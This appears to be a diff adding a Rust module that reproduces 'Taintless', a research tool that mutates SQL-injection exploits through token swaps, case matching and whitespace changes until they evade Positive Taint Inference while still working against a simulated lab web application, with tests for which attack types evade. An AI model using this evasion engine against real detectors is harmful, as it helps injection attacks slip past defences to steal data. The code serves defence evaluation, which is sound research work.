@@ -1,0 +1,292 @@
+//! Taintless: the paper's automated PTI-evasion tool (§V-A).
+//!
+//! "Taintless replaces certain SQL tokens with their equivalents (e.g.,
+//! UNION with UNION ALL, CHAR with string literals), matches the letter
+//! case of attack tokens with those available in the application, removes
+//! those tokens not found inside the application that can be safely
+//! removed from the attack payload, and also matches the type and number
+//! of whitespaces with those available in the application."
+//!
+//! The reproduction is generate-and-test, like the original: enumerate
+//! bounded combinations of payload transformations, and accept a mutant
+//! when (a) the attack effect is still observable against the unprotected
+//! application and (b) every query the attack request issues passes PTI.
+
+use crate::corpus::{Exploit, VulnPlugin};
+use crate::verify::{exploit_effect_observed, request_for};
+use joza_pti::PtiAnalyzer;
+use joza_webapp::server::Server;
+
+/// One payload transformation. Transformations compose left-to-right.
+type Transform = fn(&str) -> String;
+
+fn spaced_equals(s: &str) -> String {
+    // `1=1` → `1 = 1` — match the whitespace shapes the application's own
+    // fragments use.
+    let mut out = String::with_capacity(s.len() + 8);
+    let bytes = s.as_bytes();
+    for (i, &b) in bytes.iter().enumerate() {
+        if b == b'='
+            && i > 0
+            && !matches!(bytes[i - 1], b' ' | b'=' | b'>' | b'<' | b'!')
+            && bytes.get(i + 1) != Some(&b'=')
+        {
+            out.push(' ');
+            out.push('=');
+            if bytes.get(i + 1) != Some(&b' ') {
+                out.push(' ');
+            }
+        } else {
+            out.push(b as char);
+        }
+    }
+    out
+}
+
+fn spaced_comparisons(s: &str) -> String {
+    let mut out = s.replace('>', " > ").replace('<', " < ");
+    while out.contains("  ") {
+        out = out.replace("  ", " ");
+    }
+    out
+}
+
+fn union_all(s: &str) -> String {
+    s.replace("UNION SELECT", "UNION ALL SELECT")
+}
+
+fn select_distinct(s: &str) -> String {
+    s.replace("UNION ALL SELECT ", "UNION ALL SELECT DISTINCT ")
+}
+
+fn lowercase(s: &str) -> String {
+    s.to_lowercase()
+}
+
+fn strip_trailing_comment(s: &str) -> String {
+    s.trim_end_matches("-- -").trim_end().to_string()
+}
+
+fn or_keyword_spacing(s: &str) -> String {
+    // Collapse whitespace runs around OR / AND to single spaces so the
+    // payload matches the application's ` OR ` / ` AND ` fragments
+    // exactly ("matches the type and number of whitespaces with those
+    // available in the application", §V-A).
+    let mut out = s.to_string();
+    for kw in ["OR", "AND"] {
+        loop {
+            let next = out
+                .replace(&format!("  {kw} "), &format!(" {kw} "))
+                .replace(&format!(" {kw}  "), &format!(" {kw} "))
+                .replace(&format!("\t{kw} "), &format!(" {kw} "))
+                .replace(&format!(" {kw}\t"), &format!(" {kw} "));
+            if next == out {
+                break;
+            }
+            out = next;
+        }
+    }
+    out
+}
+
+fn hex_for_char(s: &str) -> String {
+    // CHAR(58) → 0x3a-style replacement.
+    s.replace("CHAR(58)", "0x3a")
+}
+
+static TRANSFORMS: &[Transform] = &[
+    spaced_equals,
+    spaced_comparisons,
+    union_all,
+    select_distinct,
+    lowercase,
+    strip_trailing_comment,
+    or_keyword_spacing,
+    hex_for_char,
+];
+
+/// The result of a successful evasion.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Evasion {
+    /// The mutated exploit that bypasses PTI while still working.
+    pub mutated: Exploit,
+    /// Which transformations were applied (by name).
+    pub transforms: Vec<&'static str>,
+}
+
+fn transform_names(mask: usize) -> Vec<&'static str> {
+    const NAMES: &[&str] = &[
+        "spaced-equals",
+        "spaced-comparisons",
+        "union-all",
+        "select-distinct",
+        "lowercase",
+        "strip-trailing-comment",
+        "or-keyword-spacing",
+        "hex-for-char",
+    ];
+    (0..TRANSFORMS.len()).filter(|i| mask & (1 << i) != 0).map(|i| NAMES[i]).collect()
+}
+
+fn apply_mask(payload: &str, mask: usize) -> String {
+    let mut p = payload.to_string();
+    for (i, t) in TRANSFORMS.iter().enumerate() {
+        if mask & (1 << i) != 0 {
+            p = t(&p);
+        }
+    }
+    p
+}
+
+fn mutate_exploit(exploit: &Exploit, mask: usize, b64: bool) -> Exploit {
+    let enc = |s: &str| -> String {
+        let m = apply_mask(s, mask);
+        if b64 {
+            joza_phpsim::builtins::base64_encode(m.as_bytes())
+        } else {
+            m
+        }
+    };
+    match exploit {
+        Exploit::Leak { payload, leak_marker } => Exploit::Leak {
+            payload: enc(payload),
+            leak_marker: leak_marker.clone(),
+        },
+        Exploit::BooleanDiff { true_payload, false_payload } => Exploit::BooleanDiff {
+            true_payload: enc(true_payload),
+            false_payload: enc(false_payload),
+        },
+        Exploit::TimingDiff { slow_payload, fast_payload, min_delay_ms } => Exploit::TimingDiff {
+            slow_payload: enc(slow_payload),
+            fast_payload: enc(fast_payload),
+            min_delay_ms: *min_delay_ms,
+        },
+    }
+}
+
+/// Whether every query issued by running `payload_value` against the
+/// plugin passes PTI.
+pub fn queries_pass_pti(
+    server: &mut Server,
+    plugin: &VulnPlugin,
+    value: &str,
+    pti: &PtiAnalyzer,
+) -> bool {
+    let resp = server.handle(&request_for(plugin, value));
+    !resp.queries.is_empty() && resp.queries.iter().all(|q| !pti.analyze(q).is_attack())
+}
+
+/// Attempts to adapt the plugin's exploit to evade PTI.
+///
+/// Returns `Some(Evasion)` when a mutant both works (observable effect
+/// against the unprotected app) and passes PTI on every issued query.
+pub fn evade_pti(
+    server: &mut Server,
+    plugin: &VulnPlugin,
+    pti: &PtiAnalyzer,
+) -> Option<Evasion> {
+    // Is this a base64-wrapped parameter? Mirror the plugin's decoding.
+    let b64 = plugin.decodes_base64();
+    for mask in 0..(1usize << TRANSFORMS.len()) {
+        let mutated = mutate_exploit(&plugin.exploit, mask, b64);
+        // (b) PTI must pass on every query of the attack request.
+        let probe_value = mutated.primary_payload().to_string();
+        if !queries_pass_pti(server, plugin, &probe_value, pti) {
+            continue;
+        }
+        // For differential exploits the second payload must also pass.
+        let second = match &mutated {
+            Exploit::BooleanDiff { false_payload, .. } => Some(false_payload.clone()),
+            Exploit::TimingDiff { fast_payload, .. } => Some(fast_payload.clone()),
+            Exploit::Leak { .. } => None,
+        };
+        if let Some(second) = second {
+            if !queries_pass_pti(server, plugin, &second, pti) {
+                continue;
+            }
+        }
+        // (a) the attack must still work.
+        if !exploit_effect_observed(server, plugin, &mutated, None) {
+            continue;
+        }
+        return Some(Evasion { mutated, transforms: transform_names(mask) });
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::wordpress;
+    use joza_phpsim::fragments::FragmentSet;
+    use joza_pti::analyzer::PtiConfig;
+
+    fn lab_pti() -> (crate::Lab, PtiAnalyzer) {
+        let lab = crate::build_lab();
+        let mut set = FragmentSet::new();
+        for src in lab.server.app.all_sources() {
+            set.add_source(src);
+        }
+        let pti = PtiAnalyzer::from_fragments(set.iter(), PtiConfig::default());
+        (lab, pti)
+    }
+
+    #[test]
+    fn spaced_equals_transform() {
+        assert_eq!(spaced_equals("1=1"), "1 = 1");
+        assert_eq!(spaced_equals("1 = 1"), "1 = 1");
+        assert_eq!(spaced_equals("a>=b"), "a>=b"); // compound operators untouched
+    }
+
+    #[test]
+    fn tautology_plugins_are_evadable() {
+        // Fig. 6B: tautologies built from vocabulary fragments evade PTI.
+        let (mut lab, pti) = lab_pti();
+        let tautologies: Vec<_> = lab
+            .plugins
+            .clone()
+            .into_iter()
+            .filter(|p| p.attack_type == crate::corpus::AttackType::Tautology)
+            .collect();
+        let evaded = tautologies
+            .iter()
+            .filter(|p| evade_pti(&mut lab.server, p, &pti).is_some())
+            .count();
+        assert!(evaded >= 3, "only {evaded}/{} tautologies evadable", tautologies.len());
+    }
+
+    #[test]
+    fn union_plugins_resist_taintless() {
+        // Long union payloads need too many uncovered tokens.
+        let (mut lab, pti) = lab_pti();
+        let unions: Vec<_> = lab
+            .plugins
+            .clone()
+            .into_iter()
+            .filter(|p| p.attack_type == crate::corpus::AttackType::UnionBased)
+            .take(4)
+            .collect();
+        for p in unions {
+            assert!(
+                evade_pti(&mut lab.server, &p, &pti).is_none(),
+                "{} unexpectedly evadable",
+                p.name
+            );
+        }
+    }
+
+    #[test]
+    fn original_exploits_all_detected_by_pti() {
+        // Table II: PTI detects 50/50 originals.
+        let (mut lab, pti) = lab_pti();
+        for p in lab.plugins.clone() {
+            let v = p.exploit.primary_payload().to_string();
+            assert!(
+                !queries_pass_pti(&mut lab.server, &p, &v, &pti),
+                "{}: original exploit passed PTI",
+                p.name
+            );
+        }
+        let _ = wordpress::SECRET_PASSWORD;
+    }
+}
